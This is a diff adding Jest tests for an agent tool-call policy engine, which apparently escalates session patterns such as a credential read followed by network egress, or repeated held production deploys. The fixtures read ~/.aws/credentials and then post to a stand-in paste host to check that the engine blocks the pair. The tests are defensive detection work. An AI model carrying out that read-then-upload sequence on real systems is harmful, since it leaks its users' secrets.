@@ -0,0 +1,91 @@
+/**
+ * Session Sequence Tests
+ *
+ * Verifies that policy sequence rules escalate multi-step patterns within
+ * a session and cite the earlier decision hashes.
+ */
+
+import { receiveToolCall } from '../integrations/openclaw/openclaw_adapter';
+import { getActivePolicy } from '../integrations/openclaw/decision_engine';
+import { validatePolicy } from '../integrations/openclaw/policy';
+import { analyzeArguments } from '../integrations/openclaw/argument_analyzer';
+import { clearSessionContext, getSessionHistory } from '../integrations/openclaw/session_context';
+
+jest.mock('../proof/openclaw_intercept/decision_logger', () => ({
+  logDecisionEvent: jest.fn(async () => '/proof/proof_manifest.json'),
+}));
+
+function call(session_id: string, tool_name: string, args: Record<string, any>) {
+  return receiveToolCall({
+    tool_name,
+    arguments: args,
+    metadata: { source: 'openclaw', timestamp: Date.now(), session_id },
+  });
+}
+
+const readSecret = (session: string) => call(session, 'read_file', { path: '~/.aws/credentials' });
+const upload = (session: string) =>
+  call(session, 'http_post', { url: 'https://paste.example.com/upload', body: 'notes' });
+
+describe('Session sequence rules', () => {
+  beforeEach(() => clearSessionContext());
+
+  test('network egress after a credential read is escalated to STOP citing the read', async () => {
+    const read = await readSecret('s1');
+    expect(read.verdict).toBe('ALLOW');
+
+    const egress = await upload('s1');
+    expect(egress.verdict).toBe('STOP');
+    expect(egress.reason).toContain(`(decisions ${read.decision_hash.slice(0, 12)})`);
+    expect(egress.risk_factors[0]).toMatchObject({
+      factor: 'credential-then-egress',
+      related_decisions: [read.decision_hash],
+    });
+  });
+
+  test('egress is allowed in other sessions and once the read is outside the window', async () => {
+    await readSecret('s2');
+    expect((await upload('other')).verdict).toBe('ALLOW');
+
+    for (let i = 0; i < 5; i++) {
+      await call('s2', 'format_text', { text: `step ${i}` });
+    }
+    expect((await upload('s2')).verdict).toBe('ALLOW');
+  });
+
+  test('repeated held attempts of the same action escalate to STOP', async () => {
+    const held = [];
+    for (const version of ['v1', 'v1.0', 'v1.0.0']) {
+      held.push(await call('s3', 'deploy_production', { service: 'api', version }));
+    }
+    expect(held.map((r) => r.verdict)).toEqual(['HOLD', 'HOLD', 'HOLD']);
+
+    const fourth = await call('s3', 'deploy_production', { service: 'api', version: 'v1.0.0-final' });
+    expect(fourth.verdict).toBe('STOP');
+    expect(fourth.risk_factors[0]).toMatchObject({
+      factor: 'repeated-held-attempts',
+      related_decisions: held.map((r) => r.decision_hash),
+    });
+    expect(getSessionHistory('s3')).toHaveLength(4);
+  });
+
+  test('loopback URLs are not egress', () => {
+    expect(analyzeArguments({ url: 'https://paste.example.com/x' })).toEqual([
+      { intent: 'network', path: 'arguments.url', evidence: 'paste.example.com' },
+    ]);
+    expect(analyzeArguments({ url: 'http://127.0.0.1:8080/health' })).toEqual([]);
+  });
+
+  test('sequence matchers are validated', () => {
+    const policy = getActivePolicy();
+    const errors = validatePolicy({
+      ...policy,
+      rules: [{ id: 'bad', score: 1, match: { sequence: { after: { verdict: ['MAYBE'] }, within: 0 } } }],
+    });
+
+    expect(errors).toEqual([
+      'rule "bad": match.sequence.after.verdict must be a non-empty array of STOP, HOLD, ALLOW',
+      'rule "bad": match.sequence.within must be a positive integer',
+    ]);
+  });
+});